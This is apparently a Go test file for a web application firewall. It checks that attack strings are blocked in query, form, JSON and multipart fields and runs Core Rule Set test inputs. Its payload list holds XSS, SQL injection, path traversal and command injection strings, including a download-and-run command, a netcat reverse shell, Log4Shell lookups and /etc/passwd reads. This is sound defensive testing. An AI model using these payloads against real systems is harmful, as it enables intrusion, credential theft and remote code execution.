package waf

import (
	"encoding/json"
	"fmt"
	"net/url"
	"testing"

	"gatehouse/config"
	"gatehouse/internal/testkit"
	"gatehouse/waf/body"
	"gatehouse/waf/index"
	"gatehouse/waf/variables"
)

// firstTried are what a tester sends first, by the kind of attack.
var firstTried = []string{
	"<script>alert(1)</script>", `"><script>alert(document.cookie)</script>`, "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg onload=alert`1`>",
	"javascript:alert(document.domain)", `" onmouseover="alert(1)`, "<iframe src=javascript:alert(1)></iframe>", "<body onload=alert(1)>", "<ScRiPt src=//evil.test/x.js></ScRiPt>",
	"' OR 1=1 --", "' OR '1'='1", "1 OR 1=1", "admin' --", "admin'#", `" or ""="`, "1; DROP TABLE users", "'; DROP TABLE users; --", "1' UNION SELECT null, version() -- -",
	"1 UNION ALL SELECT 1,2,3,concat(user(),0x3a,database())#", "1 AND SLEEP(5)", "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a) AND 'x'='x", "1;SELECT pg_sleep(5)--",
	"1' AND extractvalue(1,concat(0x7e,version()))-- -", "1) OR (1=1", "1' ORDER BY 10-- -", "1'; EXEC xp_cmdshell('whoami')--", "1;WAITFOR DELAY '0:0:5'--",
	"-1' union/**/select/**/1,table_name/**/from/**/information_schema.tables--",
	"../../etc/passwd", "../../../../../../etc/shadow", `..\..\..\windows\win.ini`, "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
	";cat /etc/passwd", "; ls -la /", "| id", "|| whoami", "&& cat /etc/passwd", "$(id)", "`id`", "$(cat /etc/passwd)", "127.0.0.1; uname -a", "; wget http://evil.test/x.sh -O /tmp/x; sh /tmp/x",
	"a; nc -e /bin/sh 203.0.113.66 4444", "() { :;}; /bin/bash -c id", ";c'a't /etc/passwd", "; cat${IFS}/etc/passwd",
	"${jndi:ldap://evil.test/a}", "${${lower:j}ndi:${lower:l}dap://evil.test/a}", "{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}",
	"<?php system($_GET['c']); ?>", `O:8:"Evil_Obj":1:{s:1:"a";s:1:"b";}`, "<%= 7*7 %>",
	"http://169.254.169.254/latest/meta-data/", "http://203.0.113.66/shell.txt?",
}

// fieldNames are tokens and documents.
var fieldNames = []string{"q", "id", "name", "comment", "message", "body", "content", "html", "description", "code", "sql", "query", "template", "filter"}

// places put a value into a request.
var places = []struct {
	name string
	make func(field, value string) *variables.Request
}{
	{"query", func(field, value string) *variables.Request { return get("/?" + url.Values{field: {value}}.Encode()) }},
	{"form", func(field, value string) *variables.Request {
		return posted("application/x-www-form-urlencoded", url.Values{field: {value}, "token": {"a8f3"}}.Encode())
	}},
	{"JSON", func(field, value string) *variables.Request {
		text, _ := json.Marshal(map[string]any{"item": map[string]any{field: value, "n": 1}})
		return posted("application/json", string(text))
	}},
	{"multipart", func(field, value string) *variables.Request {
		return posted("multipart/form-data; boundary=b1b2", "--b1b2\r\nContent-Disposition: form-data; name=\""+field+"\"\r\n\r\n"+value+"\r\n--b1b2--\r\n")
	}},
}

func posted(contentType, data string) *variables.Request {
	return request("POST", "/", "HTTP/1.1", []variables.Pair{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"},
		{Name: "Content-Type", Value: contentType}, {Name: "Content-Length", Value: fmt.Sprint(len(data))}}, data)
}

func balancedJudge(t testing.TB) *judge {
	t.Helper()
	j, err := newJudge(conf(func(c *config.WAFPolicy) { c.RuleSet.Profile = config.ProfileBalanced }))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { j.release() })
	return j
}

func verdict(t testing.TB, j *judge, r *variables.Request) Judgement {
	t.Helper()
	var e index.Evaluation
	jm, err := j.request("x", r, nil, &e, true)
	if err != nil {
		t.Fatal(err)
	}
	return jm
}

// doubts are why matches do not count.
func doubts(jm *Judgement) (text string) {
	for i := range jm.Matches {
		text += fmt.Sprintf(" %d[%s]", jm.Matches[i].RuleID, jm.Matches[i].Doubt)
	}
	return text
}

// TestWhatIsTriedFirstIsBlockedInEveryField sends attacks as the whole value
// of a field, alone and behind a short value, wherever a field can be.
func TestWhatIsTriedFirstIsBlockedInEveryField(t *testing.T) {
	oneGoroutine(t)
	j := balancedJudge(t)
	tried := 0
	for _, attack := range firstTried {
		for _, place := range places {
			for _, field := range fieldNames {
				r := place.make(field, attack)
				tried++
				if jm := verdict(t, j, r); !jm.Blocked {
					t.Errorf("%s=%s in %s passes: score %d of %d,%s", field, attack, place.name, jm.Score, jm.Unweighed, doubts(&jm))
				}
			}
		}
	}
	if tried < 3000 {
		t.Errorf("only %d combinations", tried)
	}
}

// TestAttacksAmongWordsAreBlocked hides attacks in texts.
func TestAttacksAmongWordsAreBlocked(t *testing.T) {
	oneGoroutine(t)
	j := balancedJudge(t)
	for _, attack := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE users; --", "' UNION SELECT null, version() -- -", "' AND SLEEP(5) AND 'x'='x",
		"${jndi:ldap://evil.test/a}", "{{7*7}}", "; cat /etc/passwd", "$(cat /etc/passwd)", "../../../etc/passwd", "' or '1'='1"} {
		for _, text := range []string{"Great product, I like it very much %s", "%s thank you for the nice and quick delivery", "Hello,\r\nplease look at this here soon: %s"} {
			for _, place := range places {
				r := place.make("comment", fmt.Sprintf(text, attack))
				if jm := verdict(t, j, r); !jm.Blocked {
					t.Errorf("%s in %s passes: score %d of %d,%s", fmt.Sprintf(text, attack), place.name, jm.Score, jm.Unweighed, doubts(&jm))
				}
			}
		}
	}
}

// attackFamilies are the rules that look for attacks.
func inAttackFamilies(jm *Judgement) bool {
	for i := range jm.Matches {
		if f := jm.Matches[i].RuleID / 1000; f >= 930 && f <= 944 {
			return true
		}
	}
	return false
}

const plainXML = "an XML document as a value, which rule 944210 knows at paranoia level 2; at level 1 it is blocked for its tags alone"

// notAttacks are inputs of the rule set's tests that the second opinion lets
// pass, with the reason.
var notAttacks = map[string]string{"944210-16.0": plainXML, "944210-17.0": plainXML, "944210-33.0": plainXML, "944210-34.0": plainXML, "944210-50.0": plainXML, "944210-51.0": plainXML}

// TestSomeOfTheRuleSetsOwnAttacksAreBlocked judges attacks of the Core Rule
// Set's tests with both profiles.
func TestSomeOfTheRuleSetsOwnAttacksAreBlocked(t *testing.T) { ruleSetsOwn(t, 8) }

// TestTheRuleSetsOwnAttacksAreBlocked judges all of them.
func TestTheRuleSetsOwnAttacksAreBlocked(t *testing.T) {
	testkit.Long(t)
	ruleSetsOwn(t, 1)
}

func ruleSetsOwn(t *testing.T, step int) {
	plain := judgeOf(t, func(*config.RuleSet) {})
	j := balancedJudge(t)
	attacks, passed := 0, 0
	for i, in := range crsInputs(t) {
		if i%step != 0 {
			continue
		}
		p := verdict(t, plain, in.req)
		if !in.positive || !p.Blocked || !inAttackFamilies(&p) || in.name < "930" || in.name >= "945" {
			continue
		}
		attacks++
		contentType, _ := in.req.Header("content-type")
		if kind, _, err := body.KindOf(contentType); (err != nil || kind == variables.None) && in.req.Body.Raw != "" {
			in.req.Body, _ = readLoosely(contentType, in.req.Body.Raw, body.Limits{Force: true})
		}
		jm := verdict(t, j, in.req)
		if _, known := notAttacks[in.name]; !jm.Blocked {
			passed++
			if !known {
				t.Errorf("%s passes: score %d of %d,%s\n%.300q %.300q", in.name, jm.Score, p.Score, doubts(&jm), in.req.Target, in.req.Body.ArgsPost)
			}
		} else if known {
			t.Errorf("%s is listed but blocked", in.name)
		}
	}
	t.Logf("%d attacks, %d of them pass", attacks, passed)
	if attacks < 2000/step || passed*100 > attacks {
		t.Errorf("%d of %d attacks pass", passed, attacks)
	}
}

func TestOnlyOptionsOfODataInAnAddressAreNone(t *testing.T) {
	for text, want := range map[string]bool{
		"/me/messages?$top=5&$select=subject,from": true,
		"https://api.example/items?a=1&$skip=20":   true,
		"/items?user[$ne]=x":                       false,
		"/items?$gt=1":                             false,
		"/x?a=$ne":                                 false,
		"/$where?x=1":                              false,
		"?$top=1":                                  false,
	} {
		if asksOData(text) != want {
			t.Errorf("%s: %t", text, !want)
		}
	}
}
